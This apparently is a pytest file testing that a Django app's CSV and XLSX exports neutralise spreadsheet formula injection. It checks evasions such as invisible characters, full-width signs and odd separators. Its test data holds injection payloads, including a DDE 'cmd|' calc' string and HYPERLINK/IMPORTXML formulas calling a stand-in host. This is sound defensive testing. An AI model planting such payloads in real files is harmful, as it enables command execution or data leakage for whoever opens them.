"""What leaves as a table: written, read again as other programs do, and no cell of it runs."""

import csv
import datetime as dt
import io
import itertools
import random
import re
import unicodedata
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from backend.audit.models import Event
from backend.reports import exports
from backend.reports.exports import Form, export, neutral
from tests.conftest import Cast
from tests.proofs import cases, report

BEFORE = (
    "", " ", "\t", "\r", "\n", "\r\n", "\0", "\u00a0", "\u200b", "\u200d", "\u2060", "\ufeff", "\u202e", "\u3000",
    "\u00ad", "\u2028", "\x0b", "\x1f", "\u3164", " \t\u200b",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−", "⁼")
PAYLOADS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://elsewhere.example/"&A1,"klik")', "IMPORTXML(A1)", "SUM(1;2)",
    "Ђурђевак", "", "2", '"quoted"', "a,b;c\td|e",
)  # fmt: skip
AROUND = ("{}", "Jovana;{}", "Niš, {}", 'rekla je "{}', "red\n{}", "a|{}", "a\t{}")
SEPARATORS = (",", ";", "\t", "|")


def corpus() -> list[str]:
    made = itertools.product(AROUND, BEFORE, STARTS, PAYLOADS)
    return [around.format(before + start + payload) for around, before, start, payload in made]


def runs(cell: object) -> bool:
    """Whether a spreadsheet could take this cell for a formula, by a rule of its own: what is seen first."""
    if not isinstance(cell, str):
        return False
    seen = re.sub(r"^[\s\x00-\x1f\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u3164\ufeff]+", "", cell)
    return unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@", "−")


def cells(cast: Cast, form: Form, texts: list[str]) -> list[object]:
    """The cells of a file with these texts, by every way of reading it."""
    file = export(
        actor=cast.lead, obj=cast.programme, what="test", form=form, on=dt.date(2026, 11, 2), header=["=a"],
        rows=[[text] for text in texts],
    )  # fmt: skip
    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(file.content)).active
        found = [cell for row in sheet.iter_rows() for cell in row]
        assert len(found) == len(texts) + 1
        return [cell.value if cell.data_type != "f" else f"={cell.value}" for cell in found]
    decoded = file.content.decode("utf-8-sig")
    whole = list(csv.reader(io.StringIO(decoded, newline="")))
    assert len(whole) == len(texts) + 1
    again = [csv.reader(io.StringIO(decoded, newline=""), delimiter=mark) for mark in SEPARATORS]
    naive = [line.split(mark) for line in re.split(r"[\r\n]+", decoded) for mark in SEPARATORS]
    split = [part.strip('"') for parts in naive for part in parts]
    return [cell for rows in again for row in rows for cell in row] + split


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_cell_runs(cast: Cast, form: Form) -> None:
    texts = random.Random(7).sample(corpus(), 1_500)
    assert not [cell for cell in cells(cast, form, texts) if runs(cell)]


@pytest.mark.proof
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_cell_of_the_whole_corpus_runs(cast: Cast, form: Form) -> None:
    texts = random.Random(8).choices(corpus(), k=cases(20_000))
    read = cells(cast, form, texts)
    report(f"P9 formulas in {form}", tried="texts", count=len(texts), failed=sum(runs(cell) for cell in read))


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_without_the_neutraliser_they_would(cast: Cast, form: Form, monkeypatch: pytest.MonkeyPatch) -> None:
    """The negative control."""
    monkeypatch.setattr(exports, "neutral", lambda cell: cell.replace("\0", "") if isinstance(cell, str) else cell)
    texts = [start + payload for start in STARTS for payload in PAYLOADS]
    assert sum(runs(cell) for cell in cells(cast, form, texts)) >= len(texts) * 0.9


@pytest.mark.parametrize(
    "text", ["", "Krojačica", "Niš - Beograd", "a, b; c", "e-mail", "5 + 5", "red\n\nred", "«»", "'"]
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


@pytest.mark.parametrize("text", ["\tx", "\rx", "\nx", "\0\tx", "\t", "\0=x"])
def test_no_cell_begins_with_a_control_character(text: str) -> None:
    assert str(neutral(text))[0] == "'"


@pytest.mark.parametrize("value", [0, -5, 1.5, -0.25, Decimal("-3.20"), True, None, dt.date(2026, 1, 2)])
def test_numbers_and_days_stay_what_they_are(cast: Cast, value: exports.Cell) -> None:
    assert neutral(value) == value
    file = export(
        actor=None, obj=cast.programme, what="test", form="xlsx", on=dt.date(2026, 11, 2), header=["a"], rows=[[value]]
    )
    read = openpyxl.load_workbook(io.BytesIO(file.content)).active["A2"].value
    assert (read.date() if isinstance(read, dt.datetime) else read) == (
        float(value) if isinstance(value, Decimal) else value
    )


def test_what_is_no_number_is_left_out_and_no_text_breaks_the_file(cast: Cast) -> None:
    odd = ["\ud800", "\ufffe", "".join(map(chr, range(0x20))), "a" * 40_000, "𝔍😀", "#REF!"]
    for form in ("csv", "xlsx"):
        export(
            actor=None, obj=cast.programme, what="test", form=form, on=dt.date(2026, 11, 2), header=["a", "b"],
            rows=[[text, float("nan")] for text in odd],
        )  # fmt: skip


def test_taking_out_is_recorded_and_the_name_says_nothing(cast: Cast) -> None:
    file = export(
        actor=cast.lead, obj=cast.programme, what="retention", form="csv", on=dt.date(2026, 11, 2), header=["a"],
        rows=[["x"], ["y"]],
    )  # fmt: skip
    assert (file.name, file.content) == ("export-2026-11-02.csv", b'\xef\xbb\xbf"a"\r\n"x"\r\n"y"\r\n')
    event = Event.objects.get(act="export")
    assert (event.actor, event.object_id) == (cast.lead, str(cast.programme.pk))


def test_the_report_on_an_import_is_downloaded_through_it(cast: Cast, client: Client) -> None:
    """Its words come out of a file that anybody may have written."""
    client.force_login(cast.employer_user)
    rows = b'title,description\n"=HYPERLINK(""https://elsewhere.example/"")",x\n'
    answer = client.post("/portal/openings/import/", {"file": io.BytesIO(rows), "report": ""})
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="export-')
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet["B2"].value.startswith("'=HYPERLINK")
    assert not [cell for row in sheet.iter_rows() for cell in row if runs(cell.value)]
    assert Event.objects.get(act="export").actor == cast.employer_user
